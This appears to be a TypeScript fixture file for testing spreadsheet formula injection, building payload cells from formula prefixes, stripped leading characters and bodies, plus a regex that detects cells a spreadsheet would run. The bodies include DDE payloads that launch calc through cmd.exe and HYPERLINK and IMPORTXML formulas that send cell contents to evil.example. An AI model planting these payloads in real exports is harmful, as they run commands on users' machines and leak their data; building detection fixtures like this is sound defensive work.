/** What a formula begins with, in half and full width, and what makes one begin. */
export const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

/** What a spreadsheet or an importer drops before it looks for a formula. */
export const formulaLeads = [
  '',
  '\uFEFF',
  ' ',
  '  ',
  '\u00A0',
  '\u3000',
  '\u200B',
  '\u202E',
  '"',
  "'",
  '""',
  "''",
  ' "',
  '\uFEFF "',
  "'\uFEFF",
];

const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!""',
  'HYPERLINK("http://evil.example/?"&A1,"go")',
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  'SUM(1;2)',
  'a,b;c|d\te\r\nf',
  '',
];

/** Cells that a spreadsheet would run. */
export const formulas = formulaStarts.flatMap((start) =>
  formulaLeads.flatMap((lead) => bodies.map((body) => `${lead}${start}${body}`)),
);

/** A spreadsheet drops marks, blanks and its own quotes in front, and runs what then begins like a formula. */
export function wouldRun(cell: string): boolean {
  return /^[\uFEFF\s\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell);
}
